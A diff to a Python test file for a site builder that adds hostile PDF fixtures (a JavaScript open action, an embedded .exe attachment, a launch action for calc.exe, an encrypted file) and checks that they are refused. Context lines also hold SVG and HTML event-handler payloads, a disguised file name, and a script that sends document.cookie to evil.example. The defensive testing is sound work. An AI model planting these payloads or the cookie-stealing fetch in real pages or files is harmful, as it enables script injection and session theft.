@@ -20,8 +20,11 @@ import feedparser
 import lxml.html
 import pytest
 from PIL import Image
+from pypdf import PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
-from conftest import NOW, build, copy_project, post_text, write_post, reader_pages
+from conftest import NOW, build, copy_project, post_text, write_pdf, write_post, reader_pages
 from hub.commands.cli import main
 
 GPS = 0x8825
@@ -220,6 +223,28 @@ def outside_folder(root: Path) -> Where:
     return "news/2026/elsewhere/index.en.md", line_in(folder / "index.en.md", "cover.png"), "in the post's own folder"
 
 
+def pdf_case(slug: str, change: Callable[[PdfWriter], None], fragment: str) -> Callable[[Path], Where]:
+    """A post linking a PDF that `change` made hostile: refused at the line of the link."""
+
+    def case(root: Path) -> Where:
+        folder = hostile_post(root, slug, "Звіт про візит: [завантажити PDF](report.pdf).")
+        write_pdf(folder / "report.pdf", change=change)
+        return f"news/2026/{slug}/index.uk.md", line_in(folder / "index.uk.md", "report.pdf"), fragment
+
+    case.__name__ = slug.replace("-", "_")
+    return case
+
+
+def launching(writer: PdfWriter) -> None:
+    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
+                                                                       NameObject("/F"): TextStringObject("calc.exe")})
+
+
+def docs_pdf_script(root: Path) -> Where:
+    write_pdf(root / "docs" / "methodology" / "guide.pdf", change=lambda writer: writer.add_open_action(JavaScript("app.alert(1)")))
+    return "docs/methodology/guide.pdf", None, "holds a script"
+
+
 def svg_logo(root: Path) -> Where:
     path = root / "partners" / "unicef.yml"
     (root / "partners" / "unicef.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
@@ -252,6 +277,11 @@ REFUSED: list[Callable[[Path], Where]] = [
     body_case("body-onload", "<body onload=alert(1)>Текст</body>", "onload", "'onload'"),
     body_case("deep-nesting", "\n".join("    " * level + f"- рівень {level}" for level in range(300)), "- рівень 41",
               "nested 41 levels deep"),
+    pdf_case("pdf-script", lambda writer: writer.add_open_action(JavaScript("app.alert(1)")), "holds a script (JavaScript)"),
+    pdf_case("pdf-attachment", lambda writer: writer.add_attachment("invoice.exe", b"MZ"), "carries another file"),
+    pdf_case("pdf-launch", launching, "start a program"),
+    pdf_case("pdf-password", lambda writer: writer.encrypt("secret"), "protected by a password"),
+    docs_pdf_script,
     body_case("bracket-flood", "Вставлено з таблиці: " + "[" * 20_000, "[[[[", "more brackets"),
     body_case("turned-link-text", "Завантажте [звіт \u202efdp.exe\u202c](https://example.org/report)", "\u202e", "U+202E"),
     body_case("details-ontoggle", "<details open ontoggle=alert(1)><summary>Більше</summary>Текст</details>", "ontoggle", "'ontoggle'"),
@@ -407,7 +437,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
     phone_photo(photo / "cover.jpg", (2400, 1800))
     phone_photo(photo / "spare.jpg", (800, 600))  # in the folder, shown nowhere
     (photo / "notes.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
-    (photo / "report.pdf").write_bytes(b"%PDF-1.4\n% a report\n")
+    write_pdf(photo / "report.pdf")
     scheduled = hostile_post(root, "scheduled-visit", "![Родина](scheduled.jpg)", meta="date: 2026-12-20\n")
     phone_photo(scheduled / "scheduled.jpg", (800, 600))
     summary = write_post(root, "odd-summary", "date: 2026-11-19\n", {
@@ -419,7 +449,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
     (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
     (root / "docs" / "methodology" / "scheme.svg").write_text('<svg onload="alert(1)"/>', encoding="utf-8")
     (root / "docs" / "contacts.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
-    (root / "docs" / "methodology" / "guide.pdf").write_bytes(b"%PDF-1.4\n% a methodology\n")
+    write_pdf(root / "docs" / "methodology" / "guide.pdf")
     about = root / "docs" / "about.uk.md"
     about.write_text(about.read_text(encoding="utf-8") + "\n![Команда хабу](assets/team.jpg)\n", encoding="utf-8")
     logo = Image.new("RGB", (900, 300), (0, 90, 160))
